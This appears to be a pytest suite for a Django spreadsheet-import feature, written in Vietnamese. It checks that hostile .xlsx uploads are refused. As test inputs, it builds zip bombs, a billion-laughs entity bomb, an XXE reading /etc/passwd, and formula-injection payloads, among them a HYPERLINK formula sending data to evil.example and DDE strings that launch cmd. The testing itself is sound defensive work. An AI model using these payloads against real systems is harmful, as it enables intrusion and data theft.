"""Malformed or hostile files get a clear refusal: never a crash, never a partial import."""

import io
import struct
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook

from coso.imports.models import ImportJob
from coso.imports.tests.helpers import PERSON_HEADERS, last_job, person_row, persons_file, upload
from coso.people.models import Person

pytestmark = pytest.mark.django_db


def _rezip(content, replace=None, add=None):
    """The same zip with some members replaced or added."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = replace.get(info.filename, source.read(info.filename))
            target.writestr(info.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def _lie_about_size(content, member, size):
    """Patch the declared uncompressed size of ``member`` in both zip headers."""
    data = bytearray(content)
    name = member.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack_from("<H", data, local + 26)[0]
        if bytes(data[local + 30 : local + 30 + name_length]) == name:
            struct.pack_into("<L", data, local + 22, size)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_length]) == name:
            struct.pack_into("<L", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _refused(client, content, name="nhap.xlsx"):
    jobs, people = ImportJob.objects.count(), Person.objects.count()
    response = upload(client, content, name=name)
    assert response.status_code == 200  # the upload form again, with the reason
    assert ImportJob.objects.count() == jobs and Person.objects.count() == people
    return response.context["form"].errors["file"][0]


@pytest.fixture
def officer(client_for):
    return client_for("district_standing")


def test_a_text_file_renamed_xlsx(tree, officer):
    message = _refused(officer, "Họ,Tên\nNguyễn,An\n".encode())
    assert "không phải là tệp Excel .xlsx thật" in message


def test_old_xls_and_csv_files(tree, officer):
    assert ".xls" in _refused(officer, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, name="cu.xlsx")
    assert ".xls" in _refused(officer, b"anything", name="cu.xls")
    assert "CSV" in _refused(officer, b"a,b\n1,2\n", name="du-lieu.csv")


def test_another_zip_renamed_xlsx(tree, officer):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "không phải là sổ làm việc Excel" in _refused(officer, out.getvalue())


def test_a_truncated_or_garbled_xlsx(tree, officer):
    content = persons_file([person_row()])
    assert "không phải là tệp Excel" in _refused(officer, content[: len(content) // 2])
    garbled = _rezip(content, replace={"xl/workbook.xml": b"<workbook><sheets><sheet"})
    assert "bị hỏng" in _refused(officer, garbled)


def test_a_zip_bomb_by_ratio(tree, officer):
    bomb = _rezip(persons_file([person_row()]), replace={"xl/worksheets/sheet1.xml": b" " * (30 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    assert "nén bất thường" in _refused(officer, bomb)


def test_a_zip_bomb_that_lies_about_its_size(tree, officer):
    # A member that inflates past the size its headers declare (and past any ratio check).
    content = _rezip(persons_file([person_row()]), add={"xl/media/big.bin": b"\0" * 400_000})
    liar = _lie_about_size(content, "xl/media/big.bin", 1000)
    assert "nén bất thường" in _refused(officer, liar)


def test_total_uncompressed_size_over_the_limit(tree, officer, settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 20_000
    content = persons_file([person_row(f"Người{i}") for i in range(300)])
    assert "nén bất thường" in _refused(officer, content)


def test_an_xml_entity_bomb(tree, officer):
    content = persons_file([person_row()])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    lol = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    bomb = _rezip(content, replace={"xl/worksheets/sheet1.xml": lol + sheet.split(b"?>", 1)[-1]})
    assert "DOCTYPE/ENTITY" in _refused(officer, bomb)
    external = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
    assert "DOCTYPE/ENTITY" in _refused(officer, _rezip(content, add={"xl/sharedStrings2.xml": external}))


def test_a_file_over_the_configured_size(tree, officer, settings):
    settings.IMPORT_MAX_UPLOAD_BYTES = 2_000
    message = _refused(officer, persons_file([person_row(f"Người{i}") for i in range(50)]))
    assert "Tệp quá lớn" in message and "giới hạn" in message


def test_an_encrypted_member_is_refused(tree, officer):
    content = bytearray(persons_file([person_row()]))
    # Set the "encrypted" flag on every entry of the central directory.
    position = content.find(b"PK\x01\x02")
    while position != -1:
        flags = struct.unpack_from("<H", content, position + 8)[0]
        struct.pack_into("<H", content, position + 8, flags | 0x1)
        position = content.find(b"PK\x01\x02", position + 4)
    assert "mật khẩu" in _refused(officer, bytes(content))


def _with_cells(cells):
    """A persons file whose row 2 has ``cells`` (column letter -> (value, forced text?))."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(PERSON_HEADERS + ["Điện thoại"])
    sheet.append(person_row("An") + ["0912345678"])
    for ref, (value, as_text) in cells.items():
        cell = sheet[ref]
        cell.value = value
        if as_text:
            cell.data_type = "s"  # a text cell that merely starts with "=", not a formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_formulas_are_refused_cell_by_cell(tree, officer):
    before = Person.objects.count()
    content = _with_cells(
        {
            "A2": ('=HYPERLINK("http://evil.example/?x="&B2,"Nguyễn")', False),  # a real formula cell
            "B2": ("=cmd|' /C calc'!A0", True),  # DDE payload stored as text
            "C2": ("@SUM(1+1)*cmd|' /C calc'!A0", True),
            "I2": ("+84 912 345 678", True),  # a phone number is not a formula
        }
    )
    response = upload(officer, content)

    job = last_job()
    assert response.status_code == 302
    assert job.status == ImportJob.Status.INVALID
    formula_errors = {(e["row"], e["column"]) for e in job.errors if e["code"] == "formula"}
    assert formula_errors == {(2, "Họ"), (2, "Tên đệm"), (2, "Tên")}
    assert all("Công thức không được phép" in e["message"] for e in job.errors if e["code"] == "formula")
    assert Person.objects.count() == before
    page = officer.get(reverse("imports:detail", args=[job.pk]))
    assert page.status_code == 200 and "Công thức không được phép" in page.content.decode()
    # The error sheet shows the payload as text, never as a live formula.
    sheet = officer.get(reverse("imports:errors_xlsx", args=[job.pk])).content
    with zipfile.ZipFile(io.BytesIO(sheet)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"cmd|" in xml


def test_a_file_without_a_header_row(tree, officer):
    workbook = Workbook()
    workbook.active.append(["x", "y"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload(officer, buffer.getvalue())
    job = last_job()
    assert job.status == ImportJob.Status.INVALID
    assert "Không tìm thấy dòng tiêu đề" in job.failure
    assert officer.get(reverse("imports:detail", args=[job.pk])).status_code == 200


def test_missing_required_columns(tree, officer):
    upload(officer, persons_file([["Nguyễn", "An"]], headers=["Họ", "Tên"]))
    job = last_job()
    assert job.status == ImportJob.Status.INVALID
    assert {e["message"] for e in job.errors} == {"Thiếu cột «Giới tính».", "Thiếu cột «Mã đơn vị» (hoặc «Đơn vị»)."}
